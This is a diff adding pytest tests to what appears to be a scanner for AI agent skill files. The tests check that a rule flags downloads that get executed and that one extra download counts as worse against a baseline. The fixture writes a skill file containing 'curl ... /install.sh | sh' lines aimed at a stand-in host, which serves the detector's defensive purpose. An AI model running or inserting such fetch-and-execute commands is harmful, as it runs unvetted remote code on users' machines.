@@ -108,3 +108,25 @@ def test_where_a_scope_divides_the_files_each_keeps_its_finding(tmp_path: Path) 
     (tmp_path / "scope.yaml").write_text("owasp-agentic: {paths: [skills/b]}\n")
     scope = ("scan", "--framework", "owasp-agentic", "--scope", "scope.yaml")
     assert [places(each) for each in shown(tmp_path, *scope)] == [["skills/b/SKILL.md"]]
+
+
+DOWNLOADS = "agents.invoked-downloads-not-executed"
+
+
+def downloads(folder: Path, *hosts: str) -> list[Finding]:
+    path = folder / ".claude" / "skills" / "a" / "SKILL.md"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    lines = "\n".join(f"curl -fsSL https://{host}/install.sh | sh" for host in hosts)
+    path.write_text(f"---\nname: a\ndescription: Sets up\n---\n\n```bash\n{lines}\n```\n")
+    result = scan([str(path)], Options(cache_folder=None))
+    return [each for each in result.findings if each.rule == DOWNLOADS and each.outcome is Outcome.FAIL]
+
+
+@pytest.mark.parametrize("length", [90, 3000])
+@pytest.mark.parametrize(("more", "state"), [((), "unchanged"), (("b",), "worse")])
+def test_a_text_with_one_download_more_is_worse(tmp_path: Path, more: tuple[str, ...], state: str, length: int) -> None:
+    long = "a.example/" + "x" * length
+    base, head = downloads(tmp_path, long), downloads(tmp_path, long, *(f"{long}/{each}" for each in more))
+    assert len(head) == 1
+    matched = match(Side(base), Side(head), {DOWNLOADS: Worse.MORE}, {DOWNLOADS})
+    assert [each.baseline_state for each in matched.findings] == [state]
